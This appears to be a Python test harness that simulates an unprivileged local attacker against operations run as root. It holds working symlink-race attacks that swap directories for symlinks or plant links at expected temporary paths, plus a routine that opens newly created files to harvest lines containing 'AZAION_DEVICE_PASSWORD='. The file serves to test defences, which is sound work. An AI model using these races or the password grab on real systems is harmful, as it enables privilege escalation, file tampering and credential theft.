"""Attacks of an unprivileged local user during runs of root.

Ends at the end of standard input, and then prints a JSON object.
"""

import glob
import json
import os
import sys
import threading

done = threading.Event()
threading.Thread(target=lambda: (sys.stdin.read(), done.set()), daemon=True).start()


def attempt(call, *arguments):
    try:
        call(*arguments)
        return True
    except OSError:
        return False


def turn(path, elsewhere):
    """Repeatedly replaces a directory by a symlink to another one, and restores it."""
    aside = path + ".aside"
    rounds = 0
    while not done.is_set():
        if attempt(os.rename, path, aside):
            attempt(os.symlink, elsewhere, path)
            rounds += 1
        attempt(os.unlink, path)
        attempt(os.rename, aside, path)
    attempt(os.unlink, path)
    attempt(os.rename, aside, path)
    return {"rounds": rounds}


def turn_when(path, elsewhere, name):
    """Does that once for each run, as soon as an entry of this name is in the directory."""
    aside = path + ".aside"
    rounds = 0
    while not done.is_set():
        if os.path.lexists(os.path.join(path, name)) and attempt(os.rename, path, aside):
            attempt(os.symlink, elsewhere, path)
            rounds += 1
            while os.path.lexists(os.path.join(aside, name)) and not done.is_set():
                pass
            attempt(os.unlink, path)
            attempt(os.rename, aside, path)
    return {"rounds": rounds}


def plant(elsewhere, *paths):
    """Repeatedly creates a symlink at each path where a temporary file or directory is expected."""
    rounds = 0
    while not done.is_set():
        for path in paths:
            rounds += attempt(os.symlink, elsewhere, path)
            if attempt(os.rename, path, path + ".aside"):
                attempt(os.unlink, path + ".aside")
    return {"rounds": rounds}


def grab(*patterns):
    """Opens every readable file as soon as it exists, and searches all of them for passwords at the end."""
    opened, tries = {}, 0
    while not done.is_set():
        for path in [path for pattern in patterns for path in glob.glob(pattern)]:
            tries += 1
            try:
                descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                continue
            inode = os.fstat(descriptor).st_ino
            if inode in opened:
                os.close(descriptor)
            else:
                opened[inode] = descriptor
    got = 0
    for descriptor in opened.values():
        try:
            got += os.pread(descriptor, 1 << 28, 0).count(b"AZAION_DEVICE_PASSWORD=")
        except OSError:
            pass
    return {"tries": tries, "opened": len(opened), "passwords": got}


print("ready", flush=True)
print(json.dumps({"turn": turn, "turn_when": turn_when, "plant": plant, "grab": grab}[sys.argv[1]](*sys.argv[2:])))
